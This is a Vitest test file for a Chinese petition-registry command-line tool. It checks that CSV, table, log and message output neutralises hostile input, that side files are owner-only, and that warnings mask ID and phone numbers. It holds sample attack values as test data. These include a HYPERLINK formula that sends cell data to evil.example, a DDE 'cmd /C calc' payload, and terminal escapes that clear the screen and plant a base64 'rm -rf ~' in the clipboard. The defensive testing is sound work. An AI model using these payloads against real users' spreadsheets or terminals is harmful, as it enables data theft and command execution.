// Issue 8, the attacks on what the program writes for people (SPEC 5): formula injection in CSV
// (item 7), terminal escapes in tables, details, history and messages (item 11), side files
// readable by others or written through a planted name (item 5), full IDs and phones in warnings,
// and blank operators (item 9). Each test failed before its fix.
import { chmodSync, chownSync, existsSync, mkdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { userInfo } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { cliSandbox, testRegistries, type CliSandbox } from '../support/cli.js';

const ESC = '\x1b';
/** A summary that writes "rm -rf ~" into the clipboard (OSC 52), clears the screen and moves the cursor. */
const HOSTILE = `反映某局干部收受礼金${ESC}]52;c;cm0gLXJmIH4=\x07${ESC}[2J${ESC}[1;1H\x9b31m伪造内容\x7f`;
/** A control character other than a line end (CSV lines end in CRLF). */
const RAW_CONTROL = /[\x00-\x09\x0b\x0c\x0e-\x1f\x7f-\x9f]|\r(?!\n)/;
/** What the hostile text would do if printed raw; the program's own colours (ESC [ … m) are fine. */
const HOSTILE_RAW = /\x1b\]|\x1b\[2J|\x1b\[1;1H|\x9b|\x7f|\x1b\[8m/;

describe.each(testRegistries)('confidentiality of output on $engine', (registry) => {
  let s: CliSandbox;
  beforeEach(async () => { s = await cliSandbox(registry); });
  afterEach(async () => { await s.cleanup(); });

  const register = (...more: string[]) => s.ok(['register', '--received', '2016-06-21', '--source', '本级受理', '--channel', '来信', ...more]);
  const mode = (p: string) => statSync(p).mode & 0o777;

  describe('formula injection (item 7)', () => {
    const SUMMARY = '=HYPERLINK("http://evil.example/?d="&A1,"点我")';
    beforeEach(async () => {
      await register('--summary', SUMMARY, '--accused-name', '@SUM(1+1)*cmd|\' /C calc\'!A0', '--accused-unit=+1+2', '--category=－1＋1');
    });

    it('CSV for people neutralises =, @, + and full-width cells with a leading apostrophe', async () => {
      const csv = (await s.cli(['list', '--format', 'csv'])).stdout;
      expect(csv.startsWith('\uFEFF')).toBe(true);
      expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""点我"")"`);
      expect(csv).toContain(",'@SUM(1+1)*cmd|' /C calc'!A0,");
      expect(csv).toContain(",'+1+2,");
      expect(csv).toContain(",'－1＋1,");
      // No cell of the data row starts a formula.
      const row = csv.split('\r\n')[1]!;
      expect(row.split(',').some((c) => /^[=+\-@＝＋－＠]/.test(c))).toBe(false);
    });

    it('--output FILE.csv is for people too', async () => {
      const out = join(s.dir, 'items.csv');
      await s.ok(['list', '--output', out]);
      expect(readFileSync(out, 'utf8')).toContain(",'+1+2,");
    });

    it('--raw CSV and JSON keep the text exactly', async () => {
      const raw = (await s.cli(['list', '--format', 'csv', '--raw'])).stdout;
      expect(raw.startsWith('\uFEFF')).toBe(false);
      expect(raw).toContain(`"=HYPERLINK(""http://evil.example/?d=""&A1,""点我"")"`);
      expect(raw).toContain(',+1+2,');
      expect(raw).not.toContain("'+1+2");
      const json = JSON.parse(await s.ok(['list', '--json'])) as Record<string, string>[];
      expect(json[0]).toMatchObject({ summary: SUMMARY, accusedUnit: '+1+2', category: '－1＋1' });
    });
  });

  describe('terminal escapes (item 11)', () => {
    let code: string;
    beforeEach(async () => { code = await register('--summary', HOSTILE, '--accused-name', `张三${ESC}[8m`); });

    it.each([false, true])('list shows control characters as text (terminal: %s)', async (tty) => {
      const r = await s.cli(['list'], { tty: { stdout: tty }, env: { NO_COLOR: '1' } });
      expect(r.code).toBe(0);
      expect(r.stdout).not.toMatch(RAW_CONTROL);
      if (tty) expect((await s.cli(['list'], { tty: { stdout: true } })).stdout).not.toMatch(HOSTILE_RAW); // in colour
      if (tty) {
        // A terminal table wraps its cells, which may split a shown escape across lines.
        expect(r.stdout).toContain('\\x');
      } else {
        expect(r.stdout).toContain('张三\\x1b[8m');
        expect(r.stdout).toContain('\\x1b]52;c;cm0gLXJmIH4=\\x07\\x1b[2J\\x1b[1;1H\\x9b31m伪造内容\\x7f');
      }
    });

    it('Markdown and people CSV on a terminal show them as text too', async () => {
      const md = await s.cli(['list', '--format', 'md']);
      expect(md.stdout).not.toMatch(RAW_CONTROL);
      expect(md.stdout).toContain('\\x1b[2J');
      const csv = await s.cli(['list', '--format', 'csv'], { tty: { stdout: true } });
      expect(csv.stdout).not.toMatch(RAW_CONTROL);
    });

    it('show prints details and history safely', async () => {
      await s.ok(['reveal', code, '--reason', `核实${ESC}]0;title\x07`]);
      for (const tty of [false, true]) {
        const r = await s.cli(['show', code], { tty: { stdout: tty }, env: { NO_COLOR: '1' } });
        expect(r.code).toBe(0);
        expect(r.stdout).not.toMatch(RAW_CONTROL);
        expect(r.stdout).toContain('\\x1b[1;1H');
        expect(r.stdout).toContain('核实\\x1b]0;title\\x07');
      }
    });

    it('the audit log table shows a hostile reason as text', async () => {
      await s.ok(['reveal', code, '--reason', `核实${ESC}[2J`]);
      const r = await s.cli(['audit', 'log']);
      expect(r.stdout).not.toMatch(RAW_CONTROL);
      expect(r.stdout).toMatch(/\\(x1b|u001b)\[2J/);
    });

    it('JSON and --raw CSV keep the text exactly', async () => {
      const json = JSON.parse(await s.ok(['list', '--json'])) as Record<string, string>[];
      expect(json[0]!.summary).toBe(HOSTILE);
      const shown = JSON.parse(await s.ok(['show', code, '--json'])) as Record<string, string>;
      expect(shown.summary).toBe(HOSTILE);
      expect((await s.cli(['list', '--format', 'csv', '--raw'])).stdout).toContain(HOSTILE);
    });

    it('messages that echo a value show it as text', async () => {
      const bad = await s.cli(['register', '--source', '本级受理', '--channel', `来信${ESC}]52;c;eA==\x07`, '--summary', 'x']);
      expect(bad.code).toBe(2);
      expect(bad.stderr).not.toMatch(RAW_CONTROL);
      expect(bad.stderr).toContain('\\x1b]52;c;eA==\\x07');

      const file = join(s.dir, 'hostile.csv');
      writeFileSync(file, `来文编号,转办机关,收件日期,信访形式,内容摘要,备注${ESC}[2J\r\n甘1,甘肃省纪委监委,2016-01-05,来信${ESC}[1;1H,反映某事,x\r\n`);
      const imp = await s.cli(['import', file]);
      expect(imp.code).toBe(2);
      expect(imp.stderr).not.toMatch(RAW_CONTROL);
      expect(imp.stderr).toContain('来信\\x1b[1;1H');
      expect(imp.stderr).toContain('备注\\x1b[2J');
    });
  });

  describe('side files (item 5)', () => {
    beforeEach(async () => { await register('--summary', '反映某局干部收受礼金', '--reporter-name', '王小明', '--reporter-phone', '13812345678'); });

    it('--output files are owner-only, whatever the umask allows', async () => {
      const out = join(s.dir, 'items.csv');
      await s.ok(['list', '--output', out]);
      expect(mode(out)).toBe(0o600);
      // Replacing an existing, wider file narrows it too.
      writeFileSync(out, 'old');
      chmodSync(out, 0o644);
      await s.ok(['list', '--output', out, '--format', 'json']);
      expect(mode(out)).toBe(0o600);
    });

    it('rejects files are owner-only', async () => {
      const file = join(s.dir, 'bad.csv');
      writeFileSync(file, '来文编号,转办机关,收件日期,信访形式,反映人,联系电话,内容摘要\r\n甘1,甘肃省纪委监委,不是日期,来信,李四,13900001111,反映某事\r\n');
      const rejects = join(s.dir, 'bad.rejects.csv');
      const r = await s.cli(['import', file, '--rejects', rejects]);
      expect(r.code).toBe(2);
      expect(readFileSync(rejects, 'utf8')).toContain('13900001111');
      expect(mode(rejects)).toBe(0o600);
    });

    it('never writes through a name planted where the temporary file goes', async () => {
      const out = join(s.dir, 'items.csv');
      const victim = join(s.dir, 'victim.txt');
      writeFileSync(victim, 'untouched');
      symlinkSync(victim, `${out}.${process.pid}.tmp`);
      await s.ok(['list', '--output', out]);
      expect(readFileSync(victim, 'utf8')).toBe('untouched');
      expect(readFileSync(out, 'utf8')).toContain('2016-0001');
    });

    it('shares with the office group only when the registry\'s folder belongs to it, whatever folder is written to', async () => {
      // A group other than the user's primary one: any, as root; else one the user is in.
      const other = process.getuid?.() === 0 ? (process.getgid!() === 4 ? 5 : 4) : process.getgroups?.().find((g) => g !== process.getgid!());
      // pub/: a group-writable folder of another group, the registry's own folder private.
      const pub = join(s.dir, 'pub');
      mkdirSync(pub);
      chmodSync(pub, 0o2775);
      if (other !== undefined) chownSync(pub, -1, other);
      const own = join(s.dir, 'mine');
      mkdirSync(own);
      chmodSync(own, 0o770); // group-writable, but the user's own group
      await s.ok(['list', '--output', join(own, 'a.csv')]);
      expect(mode(join(own, 'a.csv'))).toBe(0o600);
      await s.ok(['export', '--reveal', '--reason', '归档', '-o', join(pub, 'all.csv')]);
      expect(mode(join(pub, 'all.csv'))).toBe(0o600);
      await s.ok(['list', '--output', join(pub, 'list.json')]);
      expect(mode(join(pub, 'list.json'))).toBe(0o600);
      const bad = join(s.dir, 'bad.csv');
      writeFileSync(bad, '来文编号,转办机关,收件日期,信访形式,反映人,联系电话,内容摘要\r\n甘1,甘肃省纪委监委,不是日期,来信,李四,13900001111,反映某事\r\n');
      expect((await s.cli(['import', bad, '--rejects', join(pub, 'bad.rejects.csv')])).code).toBe(2);
      expect(mode(join(pub, 'bad.rejects.csv'))).toBe(0o600);
      if (other === undefined || s.engine === 'postgres') {
        // A server registry has no office folder: owner only even when its clerk's folder is shared.
        if (other !== undefined) {
          chmodSync(s.dir, 0o2770);
          chownSync(s.dir, -1, other);
          await s.ok(['export', '-o', join(own, 'b.csv')]);
          expect(mode(join(own, 'b.csv'))).toBe(0o600);
        }
        return;
      }
      // The registry's folder belongs to the office's group: its files are shared with it, wherever they go.
      chmodSync(s.dir, 0o2770);
      chownSync(s.dir, -1, other);
      await s.ok(['export', '--reveal', '--reason', '归档', '-o', join(own, 'all.csv')]);
      expect(mode(join(own, 'all.csv'))).toBe(0o660);
      expect(statSync(join(own, 'all.csv')).gid).toBe(other);
      expect((await s.cli(['import', bad, '--rejects', join(own, 'bad.rejects.csv')])).code).toBe(2);
      expect(mode(join(own, 'bad.rejects.csv'))).toBe(0o660);
    });

    it('an --output into a missing folder or onto a folder is one Chinese line naming the path and cause', async () => {
      const missing = join(s.dir, 'no-such-folder', 'items.csv');
      const r = await s.cli(['list', '--output', missing]);
      expect(r.code).toBe(2);
      expect(r.stderr.trim().split('\n')).toHaveLength(1);
      expect(r.stderr).toContain(missing);
      expect(r.stderr).toContain('文件夹不存在');
      expect(r.stderr).not.toMatch(/ENOENT|\.tmp/);

      const folder = join(s.dir, 'a-folder.csv');
      mkdirSync(folder);
      const d = await s.cli(['list', '--output', folder]);
      expect(d.code).toBe(2);
      expect(d.stderr.trim().split('\n')).toHaveLength(1);
      expect(d.stderr).toContain(folder);
      expect(d.stderr).toContain('是文件夹');
      expect(existsSync(join(folder, 'items.csv'))).toBe(false);
    });
  });

  describe('masked values in messages (item 5)', () => {
    it('an import warning about a bad ID or phone shows it masked', async () => {
      const file = join(s.dir, 'warn.csv');
      writeFileSync(file, [
        '来文编号,转办机关,收件日期,信访形式,反映人,身份证号,联系电话,内容摘要',
        '甘1,甘肃省纪委监委,2016-01-05,来信,王小明,620105199001011234,1381234567,反映某事',
        '',
      ].join('\r\n'));
      const r = await s.cli(['import', file]);
      expect(r.code, r.stderr).toBe(0);
      expect(r.stderr).toContain('620105********1234');
      expect(r.stderr).toContain('******4567'); // ten digits: not a mobile number, so warned about
      expect(r.stderr).not.toContain('620105199001011234');
      expect(r.stderr).not.toContain('1381234567');
    });

    it('a register warning never shows the full value', async () => {
      const r = await s.cli(['register', '--source', '本级受理', '--channel', '来信', '--summary', 'x',
        '--reporter-name', '王小明', '--reporter-id', '620105199001011234', '--reporter-phone', '1381234567']);
      expect(r.code).toBe(0);
      expect(r.stderr).toContain('身份证号');
      expect(r.stderr).not.toContain('620105199001011234');
      expect(r.stderr).not.toContain('1381234567');
    });
  });

  describe('operator (item 9)', () => {
    it.each(['', '   ', '\t'])('refuses a blank --operator %j in one line, writing nothing', async (blank) => {
      const r = await s.cli(['--operator', blank, 'register', '--source', '本级受理', '--channel', '来信', '--summary', 'x']);
      expect(r.code).toBe(2);
      expect(r.stderr.trim().split('\n')).toHaveLength(1);
      expect(r.stderr).toContain('--operator');
      expect(JSON.parse(await s.ok(['list', '--json']))).toEqual([]);
    });

    it('refuses control characters in --operator', async () => {
      const r = await s.cli(['--operator', `李${ESC}[2J`, 'register', '--source', '本级受理', '--channel', '来信', '--summary', 'x']);
      expect(r.code).toBe(2);
      expect(r.stderr).not.toMatch(RAW_CONTROL);
    });

    it('a blank XINFANG_OPERATOR falls back to the OS user; a given operator is trimmed', async () => {
      await s.ok(['register', '--source', '本级受理', '--channel', '来信', '--summary', 'x'], { env: { XINFANG_OPERATOR: '  ' } });
      await s.ok(['--operator', ' 李书记 ', 'register', '--source', '本级受理', '--channel', '来信', '--summary', 'y']);
      const log = JSON.parse(await s.ok(['audit', 'log', '--json'])) as { action: string; operator: string }[];
      expect(log.filter((e) => e.action === 'register').map((e) => e.operator)).toEqual([userInfo().username, '李书记']);
    });
  });
});
